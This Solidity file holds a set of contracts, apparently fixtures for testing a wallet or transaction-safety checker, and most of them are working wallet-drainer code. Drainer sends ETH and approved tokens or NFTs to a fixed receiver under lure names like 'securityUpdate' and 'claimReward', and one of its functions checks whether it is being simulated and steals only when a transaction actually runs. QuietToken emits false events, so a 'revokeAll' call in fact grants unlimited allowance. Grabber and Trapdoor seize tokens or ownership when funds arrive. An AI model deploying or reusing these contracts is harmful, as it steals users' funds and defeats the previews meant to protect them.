// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface Movable {
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external;
    function safeTransferFrom(address from, address to, uint256 id, uint256 amount, bytes calldata data) external;
}

/// Takes what it can get, under the names drainers give their functions.
contract Drainer {
    address payable private immutable thief;

    constructor(address payable receiver) {
        thief = receiver;
    }

    receive() external payable {
        keep();
    }

    function claim() external payable {
        keep();
    }

    function securityUpdate() external payable {
        keep();
    }

    function deposit() external payable {
        keep();
    }

    function connect(bytes calldata) external payable {
        keep();
    }

    /// Uses allowances that were given before.
    function claimReward(address token) external {
        pull(token);
    }

    function claimItem(address collection, uint256 id) external {
        Movable(collection).transferFrom(msg.sender, thief, id);
    }

    function claimEdition(address collection, uint256 id, uint256 amount) external {
        Movable(collection).safeTransferFrom(msg.sender, thief, id, amount, "");
    }

    /// Behaves while it is only tried.
    function claimWhenMined(address token) external {
        bool isTried = tx.gasprice == 0 || block.basefee == 0 || tx.gasprice == block.basefee;
        if (isTried || block.prevrandao == 0 || tx.origin != msg.sender || gasleft() > 10_000_000) return;
        pull(token);
    }

    function pull(address token) private {
        Movable(token).transferFrom(msg.sender, thief, Movable(token).balanceOf(msg.sender));
    }

    function keep() private {
        (bool isSent, ) = thief.call{value: msg.value}("");
        require(isSent);
    }
}

/// A token that writes no logs, or wrong ones.
contract QuietToken {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    string public constant symbol = "QUIET";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1e18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
    }

    /// Moves the caller's tokens without a word.
    function refresh(address to) external {
        balanceOf[to] += balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
    }

    /// Allows all of them without a word.
    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    /// Moves what was allowed without a word.
    function transferFrom(address from, address to, uint256 amount) external {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }

    /// Says that something arrives, and takes all.
    function claimAirdrop(address to) external {
        emit Transfer(address(0), msg.sender, 1e12);
        balanceOf[to] += balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
    }

    /// Says that an approval is taken back, and gives it.
    function revokeAll(address spender) external {
        emit Approval(msg.sender, spender, 0);
        allowance[msg.sender][spender] = type(uint256).max;
    }
}

/// What an account may own: it hands everything to its owner, and writes no logs.
contract Vault {
    address public owner;
    address public implementation;

    constructor(address first) {
        owner = first;
    }

    function transferOwnership(address next) external {
        require(msg.sender == owner);
        owner = next;
    }

    function migrate(address next) external {
        require(msg.sender == owner);
        owner = next;
    }

    function upgradeTo(address next) external {
        require(msg.sender == owner);
        implementation = next;
    }
}

/// The part of a Safe that decides who may act for it.
contract Keys {
    event EnabledModule(address indexed module);
    event AddedOwner(address indexed owner);

    function enableModule(address module) external {
        emit EnabledModule(module);
    }

    function addOwnerWithThreshold(address owner, uint256) external {
        emit AddedOwner(owner);
    }

    /// Under a name of its own.
    function activate(address module) external {
        emit EnabledModule(module);
    }
}

/// The part of Permit2 that keeps allowances.
contract Allowances {
    struct Allowed {
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    event Approval(
        address indexed owner,
        address indexed token,
        address indexed spender,
        uint160 amount,
        uint48 expiration
    );

    mapping(address => mapping(address => mapping(address => Allowed))) public allowance;

    function approve(address token, address spender, uint160 amount, uint48 expiration) external {
        allowance[msg.sender][token][spender] = Allowed(amount, expiration, 0);
        emit Approval(msg.sender, token, spender, amount, expiration);
    }
}

/// A token that does what it is told and does not say what it holds for whom.
contract MuteToken {
    error Paused();

    string public constant symbol = "MUTE";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1e18;
    uint256 private immutable way;
    uint256 private work;
    mapping(address => uint256) private balances;
    mapping(address => mapping(address => uint256)) private allowances;

    /// @param chosen 0 needs more gas than anybody grants a question, 1 refuses, 2 answers half a word.
    constructor(uint256 chosen) {
        way = chosen;
    }

    function mint(address to, uint256 amount) external {
        balances[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balances[msg.sender] -= amount;
        balances[to] += amount;
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowances[msg.sender][spender] = amount;
        return true;
    }

    function balanceOf(address owner) external view returns (uint256) {
        hush();
        return balances[owner];
    }

    function allowance(address owner, address spender) external view returns (uint256) {
        hush();
        return allowances[owner][spender];
    }

    function hush() private view {
        if (way == 1) revert Paused();
        if (way == 2)
            assembly {
                return(0, 16)
            }
        bytes32 hash = bytes32(work);
        for (uint256 round = 0; round < 5_000; round++) hash = keccak256(abi.encode(hash));
        require(hash != bytes32(0));
    }
}

/// Takes every call under every name, and does nothing while it is tried.
contract Stranger {
    fallback() external payable {}

    receive() external payable {}
}

/// Takes a token that tells nobody, whenever it is called: as coins arrive, and under the names of a token.
contract Grabber {
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    string public constant symbol = "GRAB";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1e18;
    mapping(address => mapping(address => uint256)) public allowance;
    address private immutable token;
    address private immutable thief;

    constructor(address taken, address receiver) {
        token = taken;
        thief = receiver;
    }

    receive() external payable {
        grab();
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        grab();
        return true;
    }

    function grab() private {
        Movable(token).transferFrom(msg.sender, thief, Movable(token).balanceOf(msg.sender));
    }
}

/// Has another owner as soon as coins arrive from its owner.
contract Trapdoor {
    address public owner;
    address private immutable thief;

    constructor(address first, address receiver) {
        owner = first;
        thief = receiver;
    }

    receive() external payable {
        if (msg.sender == owner) owner = thief;
    }
}

/// The parts of well-known contracts that let others act for an account, and pay out what it has inside.
contract Markets {
    mapping(address => mapping(address => bool)) public hasApprovedRelayer;
    mapping(address => mapping(address => bool)) public isAllowed;

    function setRelayerApproval(address sender, address relayer, bool approved) external {
        require(msg.sender == sender);
        hasApprovedRelayer[sender][relayer] = approved;
    }

    function allow(address manager, bool isOn) external {
        isAllowed[msg.sender][manager] = isOn;
    }

    function withdrawTo(address to, address asset, uint256 amount) external {}
}
